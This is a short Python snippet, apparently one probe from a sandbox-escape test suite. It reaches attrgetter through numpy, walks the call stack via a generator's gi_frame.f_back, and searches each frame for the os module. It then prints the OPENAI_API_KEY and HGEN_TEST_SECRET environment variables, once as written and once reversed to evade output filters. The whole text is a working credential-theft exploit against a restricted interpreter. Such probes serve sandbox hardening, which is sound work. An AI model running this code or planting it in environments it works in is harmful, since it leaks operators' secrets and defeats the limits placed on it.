# attempts: gi_frame.f_back chain: look in every frame's locals/globals for an os module or environ mapping and print the canary
# effect: env
ag = np.ma.core.operator.attrgetter
gen = None
gen = (ag('gi_frame.f_back')(gen) for _ in [0])
frame = list(gen)[0]
leaks = []
for _ in range(80):
    if frame is None:
        break
    for v in list(ag('f_globals')(frame).values()) + list(ag('f_locals')(frame).values()):
        env = None
        if ag('__class__.__name__')(v) == 'module' and ag('__name__')(v) == 'os':
            env = ag('environ')(v)
        if env is not None:
            leaks.append(env.get('OPENAI_API_KEY', '') + ' ' + env.get('HGEN_TEST_SECRET', ''))
    frame = ag('f_back')(frame)
print(leaks[:2], [s[::-1] for s in leaks[:2]])
